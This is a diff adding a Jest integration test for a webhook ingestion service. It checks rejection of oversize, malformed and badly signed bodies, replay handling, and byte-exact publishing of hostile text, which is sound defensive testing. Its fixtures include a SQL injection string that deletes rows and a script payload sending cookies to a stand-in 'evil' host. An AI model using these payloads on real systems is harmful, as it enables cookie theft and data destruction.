@@ -1,0 +1,115 @@
+import type { INestApplication } from '@nestjs/common';
+import { loadConfig } from '@scb/config';
+import { qualifiedTopic, Topics } from '@scb/contracts';
+import { signSha256 } from '@scb/social-sources';
+import {
+  clearDedupKeys,
+  dropTopics,
+  isolatedEnv,
+  readAll,
+  testKafka,
+  topicMessageCount,
+} from '@scb/testing';
+import { startIngestion } from './ingestion.app';
+import { IngestionConfigSchema } from './ingestion.config';
+
+const SECRET = 'hostile-webhook-test-secret';
+const TEXTS = [
+  "'; DELETE FROM interactions WHERE '1'='1",
+  '<script>fetch("//evil/"+document.cookie)</script>',
+  '\u202Eevil\u202C zero\u200Bwidth\u200D\uFEFF joiners',
+  'مرحبا @Brand 👩‍👩‍👧‍👦 שלום',
+];
+
+const mention = (id: string, text = '@Brand hello') => ({
+  platform: 'other',
+  externalId: id,
+  authorId: `author-${id}`,
+  text,
+  createdAt: '2026-01-01T10:00:00Z',
+});
+
+/** The generic webhook with the default 1 MB limit, against every kind of bad body. */
+describe('generic webhook under hostile input (real HTTP server and Kafka)', () => {
+  const env = isolatedEnv('hostilewh');
+  const kafka = testKafka('scb-hostile-webhook-test');
+  const topic = qualifiedTopic(env.KAFKA_TOPIC_PREFIX, Topics.mentions);
+  let app: INestApplication;
+
+  const post = async (
+    body: string | Buffer,
+    signature: string | null = signSha256(SECRET, body),
+  ) => {
+    const response = await fetch(
+      `${(await app.getUrl()).replace('[::1]', '127.0.0.1')}/v1/webhooks/mentions`,
+      {
+        method: 'POST',
+        headers: {
+          'content-type': 'application/json',
+          ...(signature ? { 'x-scb-signature': signature } : {}),
+        },
+        body,
+      },
+    );
+    return { status: response.status, text: await response.text() };
+  };
+
+  beforeAll(async () => {
+    app = await startIngestion(
+      loadConfig(IngestionConfigSchema, { ...process.env, ...env, WEBHOOK_SECRET: SECRET }),
+    );
+  });
+  afterAll(async () => {
+    await app?.close();
+    await dropTopics(kafka, env.KAFKA_TOPIC_PREFIX);
+    await clearDedupKeys(env.KAFKA_TOPIC_PREFIX);
+  });
+
+  const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
+  const refused: Array<[string, number, string | Buffer, RegExp]> = [
+    ['a 10 MB body', 413, JSON.stringify(mention('big', 'x'.repeat(10_000_000))), /larger than/],
+    ['deeply nested JSON', 400, nested(200_000), /nested deeper than/],
+    ['invalid UTF-8', 400, Buffer.from([0x7b, 0xff, 0xfe, 0x7d]), /malformed JSON/],
+    [
+      'wrong types',
+      400,
+      JSON.stringify({ ...mention('t'), createdAt: 5, authorId: [] }),
+      /createdAt/,
+    ],
+    ['missing fields', 400, JSON.stringify({ platform: 'x', text: 'hi' }), /externalId/],
+    ['an empty body', 400, '', /.+/],
+  ];
+
+  it.each(refused)('refuses %s with %i and a reason', async (_, status, body, reason) => {
+    const response = await post(body);
+    expect(response.status).toBe(status);
+    expect(response.text).toMatch(reason);
+  });
+
+  it('refuses a signature made for another body (or with another secret) with 401', async () => {
+    const body = JSON.stringify(mention('sig-1'));
+    const other = JSON.stringify(mention('sig-2'));
+    expect((await post(body, signSha256(SECRET, other))).status).toBe(401);
+    expect((await post(body, signSha256('another-secret-of-16+', body))).status).toBe(401);
+    expect((await post(body, 'sha256=zz')).status).toBe(401);
+  });
+
+  it('publishes injection, RTL, zero-width and emoji text byte for byte', async () => {
+    const body = JSON.stringify(TEXTS.map((text, i) => mention(`text-${i}`, text)));
+    expect((await post(body)).status).toBe(202);
+    const published = await readAll(kafka, topic, TEXTS.length);
+    expect(published.map((m) => (JSON.parse(m.value) as { text: string }).text).sort()).toEqual(
+      [...TEXTS].sort(),
+    );
+  });
+
+  it('a replayed request (same body, same valid signature) is accepted and published once', async () => {
+    const body = JSON.stringify(mention('replayed'));
+    expect((await post(body)).status).toBe(202);
+    const replay = await post(body);
+    expect(replay.status).toBe(202);
+    expect(JSON.parse(replay.text)).toMatchObject({ duplicates: 1 });
+    // Only the four texts and this one mention ever reached the topic.
+    expect(await topicMessageCount(kafka, topic)).toBe(TEXTS.length + 1);
+  });
+});
